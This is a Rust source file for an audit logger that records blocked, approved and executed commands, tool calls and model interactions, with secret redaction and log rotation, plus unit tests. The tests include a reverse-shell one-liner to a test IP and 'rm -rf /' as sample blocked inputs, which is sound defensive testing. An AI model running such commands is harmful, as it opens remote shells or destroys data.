//! Append-only audit trail.
//!
//! Each event is one JSON object per line. Sensitive substrings in the payload
//! are redacted once, right before the line is written. The file is rotated to
//! `<name>.old` when it grows past the configured size.

mod event;

use std::fs::{self, File, OpenOptions};
use std::io::{self, BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use chrono::Utc;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tracing::{debug, error};

use crate::context::RequestContext;
use crate::policy::{AuditSettings, Violation};
use crate::security::SensitiveDataFilter;

pub use event::{AuditEvent, AuditEventKind, AuditSeverity, EVENT_SOURCE};

pub const DEFAULT_MAX_LOG_SIZE: u64 = 10 * 1024 * 1024;
const PROMPT_LIMIT: usize = 500;
const PREVIEW_LIMIT: usize = 200;

static INSTANCE_COUNTER: AtomicU64 = AtomicU64::new(0);

/// First 16 hex characters of the SHA-256 of `text`.
pub fn command_hash(text: &str) -> String {
    let digest = hex::encode(Sha256::digest(text.as_bytes()));
    digest[..16].to_string()
}

fn generate_session_id() -> String {
    let nonce = INSTANCE_COUNTER.fetch_add(1, Ordering::Relaxed);
    let seed = format!(
        "{}:{}:{}",
        Utc::now().timestamp_nanos_opt().unwrap_or_default(),
        process::id(),
        nonce
    );
    hex::encode(Sha256::digest(seed.as_bytes()))[..12].to_string()
}

fn truncate_chars(text: &str, limit: usize) -> String {
    text.chars().take(limit).collect()
}

fn rotated_path(path: &Path) -> PathBuf {
    let mut name = path.file_name().unwrap_or_default().to_os_string();
    name.push(".old");
    path.with_file_name(name)
}

#[derive(Debug)]
pub struct AuditLogger {
    path: PathBuf,
    max_size: u64,
    redact: bool,
    session_id: String,
    filter: Arc<SensitiveDataFilter>,
    write_lock: Mutex<()>,
}

impl AuditLogger {
    pub fn new(path: impl Into<PathBuf>, filter: Arc<SensitiveDataFilter>) -> Self {
        Self {
            path: path.into(),
            max_size: DEFAULT_MAX_LOG_SIZE,
            redact: true,
            session_id: generate_session_id(),
            filter,
            write_lock: Mutex::new(()),
        }
    }

    /// Logger configured from the `[audit]` section of the rule document.
    pub fn from_settings(
        path: impl Into<PathBuf>,
        settings: &AuditSettings,
        filter: Arc<SensitiveDataFilter>,
    ) -> Self {
        Self::new(path, filter)
            .with_max_size(settings.max_log_size)
            .with_redaction(settings.redact_sensitive_data)
    }

    pub fn with_max_size(mut self, max_size: u64) -> Self {
        self.max_size = max_size;
        self
    }

    pub fn with_redaction(mut self, redact: bool) -> Self {
        self.redact = redact;
        self
    }

    pub fn session_id(&self) -> &str {
        &self.session_id
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    // ---- write side ----

    pub fn command_executed(
        &self,
        ctx: &RequestContext,
        command: &str,
        exit_code: i32,
        elapsed: Duration,
        output_size: usize,
    ) {
        self.record(
            AuditEventKind::CommandExecuted,
            AuditSeverity::Info,
            ctx,
            json!({
                "command": command,
                "exit_code": exit_code,
                "execution_time_seconds": elapsed.as_secs_f64(),
                "output_size_bytes": output_size,
                "command_hash": command_hash(command),
            }),
        );
    }

    pub fn command_blocked(&self, ctx: &RequestContext, command: &str, reason: &str, rule: &str) {
        self.record(
            AuditEventKind::CommandBlocked,
            AuditSeverity::Warning,
            ctx,
            json!({
                "command": command,
                "block_reason": reason,
                "policy_rule": rule,
                "command_hash": command_hash(command),
            }),
        );
    }

    pub fn requires_approval(&self, ctx: &RequestContext, command: &str, reason: &str) {
        self.record(
            AuditEventKind::CommandRequiresApproval,
            AuditSeverity::Info,
            ctx,
            json!({
                "command": command,
                "approval_reason": reason,
                "command_hash": command_hash(command),
            }),
        );
    }

    pub fn model_interaction(
        &self,
        ctx: &RequestContext,
        prompt: &str,
        response: &str,
        model: &str,
        tokens_used: Option<u32>,
        elapsed: Duration,
    ) {
        self.record(
            AuditEventKind::ModelInteraction,
            AuditSeverity::Info,
            ctx,
            json!({
                "prompt": truncate_chars(prompt, PROMPT_LIMIT),
                "response_preview": truncate_chars(response, PREVIEW_LIMIT),
                "model": model,
                "tokens_used": tokens_used,
                "response_time_seconds": elapsed.as_secs_f64(),
                "prompt_hash": command_hash(prompt),
            }),
        );
    }

    pub fn tool_call(
        &self,
        ctx: &RequestContext,
        tool: &str,
        parameters: &Value,
        error_code: Option<&str>,
        result_size: usize,
        elapsed: Duration,
    ) {
        let severity = if error_code.is_none() {
            AuditSeverity::Info
        } else {
            AuditSeverity::Warning
        };
        self.record(
            AuditEventKind::ToolCall,
            severity,
            ctx,
            json!({
                "tool_name": tool,
                "parameters": parameters,
                "result_ok": error_code.is_none(),
                "result_size": result_size,
                "execution_time_seconds": elapsed.as_secs_f64(),
                "error_code": error_code,
            }),
        );
    }

    pub fn tool_blocked(
        &self,
        ctx: &RequestContext,
        tool: &str,
        parameters: &Value,
        reason: &str,
        rule: &str,
    ) {
        self.record(
            AuditEventKind::ToolBlocked,
            AuditSeverity::Warning,
            ctx,
            json!({
                "tool_name": tool,
                "parameters": parameters,
                "block_reason": reason,
                "policy_rule": rule,
            }),
        );
    }

    /// Logged at the violation's own severity.
    pub fn policy_violation(&self, ctx: &RequestContext, violation: &Violation, subject: &str) {
        self.record(
            AuditEventKind::PolicyViolation,
            violation.severity.into(),
            ctx,
            json!({
                "violation_type": violation.class,
                "rule_name": violation.rule_name,
                "message": violation.message,
                "remediation": violation.remediation,
                "subject": subject,
                "command_hash": command_hash(subject),
            }),
        );
    }

    pub fn security_alert(&self, ctx: &RequestContext, alert_type: &str, message: &str, details: Value) {
        self.record(
            AuditEventKind::SecurityAlert,
            AuditSeverity::Critical,
            ctx,
            json!({
                "alert_type": alert_type,
                "message": message,
                "details": details,
            }),
        );
    }

    pub fn session_start(&self, ctx: &RequestContext, config_info: Value) {
        self.record(
            AuditEventKind::SessionStart,
            AuditSeverity::Info,
            ctx,
            json!({
                "config_info": config_info,
                "version": env!("CARGO_PKG_VERSION"),
            }),
        );
    }

    pub fn session_end(&self, ctx: &RequestContext, duration: Duration, commands_executed: u64) {
        self.record(
            AuditEventKind::SessionEnd,
            AuditSeverity::Info,
            ctx,
            json!({
                "session_duration_seconds": duration.as_secs_f64(),
                "commands_executed": commands_executed,
            }),
        );
    }

    pub fn config_change(&self, ctx: &RequestContext, setting: &str, details: Value) {
        self.record(
            AuditEventKind::ConfigChange,
            AuditSeverity::Info,
            ctx,
            json!({
                "setting": setting,
                "details": details,
            }),
        );
    }

    pub fn error(&self, ctx: &RequestContext, error_type: &str, message: &str, details: Value) {
        self.record(
            AuditEventKind::Error,
            AuditSeverity::Error,
            ctx,
            json!({
                "error_type": error_type,
                "message": message,
                "details": details,
            }),
        );
    }

    fn record(&self, kind: AuditEventKind, severity: AuditSeverity, ctx: &RequestContext, data: Value) {
        let data = if self.redact {
            self.redact_value(data)
        } else {
            data
        };
        let event = AuditEvent::new(kind, severity, &self.session_id, ctx, data);
        if let Err(e) = self.append(&event) {
            // Never let an audit failure block command processing.
            error!("Failed to write audit event to {}: {}", self.path.display(), e);
        }
    }

    fn redact_value(&self, value: Value) -> Value {
        match value {
            Value::String(s) => Value::String(self.filter.redact(&s)),
            Value::Array(items) => {
                Value::Array(items.into_iter().map(|v| self.redact_value(v)).collect())
            }
            Value::Object(map) => Value::Object(
                map.into_iter()
                    .map(|(k, v)| {
                        // Digests are never secrets, but can look like card numbers.
                        if k.ends_with("_hash") {
                            (k, v)
                        } else {
                            let v = self.redact_value(v);
                            (k, v)
                        }
                    })
                    .collect(),
            ),
            other => other,
        }
    }

    fn append(&self, event: &AuditEvent) -> io::Result<()> {
        let _guard = self.write_lock.lock().unwrap_or_else(PoisonError::into_inner);

        if let Some(parent) = self.path.parent() {
            if !parent.as_os_str().is_empty() {
                fs::create_dir_all(parent)?;
            }
        }
        self.rotate_if_needed()?;

        let mut line = serde_json::to_string(event)?;
        line.push('\n');
        let mut file = OpenOptions::new().create(true).append(true).open(&self.path)?;
        file.write_all(line.as_bytes())?;
        file.flush()
    }

    fn rotate_if_needed(&self) -> io::Result<()> {
        let size = match fs::metadata(&self.path) {
            Ok(meta) => meta.len(),
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(()),
            Err(e) => return Err(e),
        };
        if size <= self.max_size {
            return Ok(());
        }

        let old = rotated_path(&self.path);
        if old.exists() {
            fs::remove_file(&old)?;
        }
        fs::rename(&self.path, &old)?;
        debug!("Rotated audit log to {}", old.display());
        Ok(())
    }

    // ---- read side ----

    fn read_events(&self) -> Vec<AuditEvent> {
        let file = match File::open(&self.path) {
            Ok(file) => file,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Vec::new(),
            Err(e) => {
                error!("Failed to read audit log {}: {}", self.path.display(), e);
                return Vec::new();
            }
        };

        BufReader::new(file)
            .lines()
            .map_while(Result::ok)
            .filter_map(|line| serde_json::from_str::<AuditEvent>(line.trim()).ok())
            .collect()
    }

    /// The last `limit` events, optionally restricted to `kinds`.
    pub fn recent_events(&self, limit: usize, kinds: Option<&[AuditEventKind]>) -> Vec<AuditEvent> {
        let events = self.read_events();
        let start = events.len().saturating_sub(limit);
        events
            .into_iter()
            .skip(start)
            .filter(|e| kinds.is_none_or(|k| k.contains(&e.event_type)))
            .collect()
    }

    pub fn session_events(&self, session_id: &str) -> Vec<AuditEvent> {
        self.read_events()
            .into_iter()
            .filter(|e| e.session_id == session_id)
            .collect()
    }

    /// Alert-kind events at error severity or above from the last `hours`.
    pub fn security_alerts(&self, hours: u32) -> Vec<AuditEvent> {
        let cutoff = event::epoch_seconds(Utc::now()) - f64::from(hours) * 3600.0;
        self.read_events()
            .into_iter()
            .filter(|e| {
                e.timestamp >= cutoff
                    && e.event_type.is_alert()
                    && e.severity >= AuditSeverity::Error
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::{Severity, ViolationClass};

    fn ctx() -> RequestContext {
        RequestContext::new("/home/alice", "alice", "req")
    }

    fn logger(dir: &tempfile::TempDir) -> AuditLogger {
        let filter = Arc::new(SensitiveDataFilter::new().unwrap());
        AuditLogger::new(dir.path().join("audit.jsonl"), filter)
    }

    #[test]
    fn test_event_line_format() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir);
        log.command_blocked(&ctx(), "rm -rf /", "Forbidden command: rm -rf /", "command_safety");

        let raw = fs::read_to_string(log.path()).unwrap();
        assert_eq!(raw.lines().count(), 1);

        let value: Value = serde_json::from_str(raw.trim()).unwrap();
        assert_eq!(value["event_type"], "command_blocked");
        assert_eq!(value["severity"], "warning");
        assert_eq!(value["session_id"], log.session_id());
        assert_eq!(value["user"], "alice");
        assert_eq!(value["working_directory"], "/home/alice");
        assert_eq!(value["source"], EVENT_SOURCE);
        assert!(value["timestamp"].as_f64().unwrap() > 0.0);
        assert!(value["iso_timestamp"].as_str().is_some());
        assert_eq!(value["event_data"]["command_hash"], command_hash("rm -rf /"));
    }

    #[test]
    fn test_payload_redacted_before_write() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir);
        log.command_executed(
            &ctx(),
            "mysql --password=hunter2hunter2",
            0,
            Duration::from_millis(5),
            0,
        );

        let raw = fs::read_to_string(log.path()).unwrap();
        assert!(!raw.contains("hunter2hunter2"));
        assert!(raw.contains("[REDACTED PASSWORD]"));
    }

    #[test]
    fn test_redaction_can_be_disabled() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir).with_redaction(false);
        log.command_executed(&ctx(), "echo password=hunter2hunter2", 0, Duration::ZERO, 0);

        let raw = fs::read_to_string(log.path()).unwrap();
        assert!(raw.contains("hunter2hunter2"));
    }

    #[test]
    fn test_rotation_keeps_one_old_file() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir).with_max_size(400);

        while fs::metadata(log.path()).map(|m| m.len()).unwrap_or(0) <= 400 {
            log.command_executed(&ctx(), "ls -la", 0, Duration::ZERO, 12);
        }
        let before = fs::read_to_string(log.path()).unwrap();

        log.command_executed(&ctx(), "git status", 0, Duration::ZERO, 3);

        let old = dir.path().join("audit.jsonl.old");
        assert_eq!(fs::read_to_string(&old).unwrap(), before);

        let live = fs::read_to_string(log.path()).unwrap();
        assert_eq!(live.lines().count(), 1);
        assert!(live.contains("git status"));

        let olds = fs::read_dir(dir.path())
            .unwrap()
            .filter_map(Result::ok)
            .filter(|e| e.file_name().to_string_lossy().ends_with(".old"))
            .count();
        assert_eq!(olds, 1);
    }

    #[test]
    fn test_reads_skip_malformed_lines() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir);
        log.session_start(&ctx(), json!({"model": "none"}));
        {
            let mut file = OpenOptions::new().append(true).open(log.path()).unwrap();
            file.write_all(b"{not json\n").unwrap();
        }
        log.error(&ctx(), "agent_failure", "boom", json!({}));
        // Trailing partial line.
        {
            let mut file = OpenOptions::new().append(true).open(log.path()).unwrap();
            file.write_all(b"{\"timestamp\": 1.0, \"event_ty").unwrap();
        }

        let events = log.recent_events(100, None);
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].event_type, AuditEventKind::SessionStart);
        assert_eq!(events[1].event_type, AuditEventKind::Error);
    }

    #[test]
    fn test_recent_events_filters_kinds() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir);
        log.command_executed(&ctx(), "ls", 0, Duration::ZERO, 0);
        log.command_blocked(&ctx(), "reboot", "Forbidden", "command_safety");
        log.command_executed(&ctx(), "pwd", 0, Duration::ZERO, 0);

        let blocked = log.recent_events(10, Some(&[AuditEventKind::CommandBlocked]));
        assert_eq!(blocked.len(), 1);
        assert_eq!(blocked[0].event_data["command"], "reboot");

        let last_two = log.recent_events(2, None);
        assert_eq!(last_two.len(), 2);
        assert_eq!(last_two[1].event_data["command"], "pwd");
    }

    #[test]
    fn test_session_events_and_distinct_sessions() {
        let dir = tempfile::tempdir().unwrap();
        let first = logger(&dir);
        let second = logger(&dir);
        assert_ne!(first.session_id(), second.session_id());
        assert_eq!(first.session_id().len(), 12);

        first.command_executed(&ctx(), "ls", 0, Duration::ZERO, 0);
        second.command_executed(&ctx(), "pwd", 0, Duration::ZERO, 0);
        first.command_executed(&ctx(), "id", 0, Duration::ZERO, 0);

        assert_eq!(first.session_events(first.session_id()).len(), 2);
        assert_eq!(second.session_events(second.session_id()).len(), 1);
    }

    #[test]
    fn test_security_alerts() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir);
        let critical = Violation {
            rule_name: "critical_security_pattern".to_string(),
            class: ViolationClass::Security,
            message: "Critical security violation: Reverse shell attempt".to_string(),
            severity: Severity::Critical,
            remediation: "Command blocked for security".to_string(),
        };
        let medium = Violation {
            severity: Severity::Medium,
            ..critical.clone()
        };

        log.policy_violation(&ctx(), &critical, "bash -i >& /dev/tcp/1.2.3.4/9 0>&1");
        log.policy_violation(&ctx(), &medium, "echo hi");
        log.security_alert(&ctx(), "agent_failure", "Security Agent failed", json!({}));
        // Warning severity, not an alert.
        log.command_blocked(&ctx(), "reboot", "Forbidden", "command_safety");

        let alerts = log.security_alerts(24);
        assert_eq!(alerts.len(), 2);
        assert_eq!(alerts[0].severity, AuditSeverity::Critical);
        assert_eq!(alerts[1].event_type, AuditEventKind::SecurityAlert);
    }

    #[test]
    fn test_model_interaction_truncates() {
        let dir = tempfile::tempdir().unwrap();
        let log = logger(&dir);
        let prompt = "a".repeat(800);
        let response = "b".repeat(800);
        log.model_interaction(&ctx(), &prompt, &response, "gpt-4o-mini", Some(42), Duration::ZERO);

        let events = log.recent_events(1, None);
        assert_eq!(events[0].event_data["prompt"].as_str().unwrap().len(), 500);
        assert_eq!(events[0].event_data["response_preview"].as_str().unwrap().len(), 200);
        assert_eq!(events[0].event_data["tokens_used"], 42);
    }
}
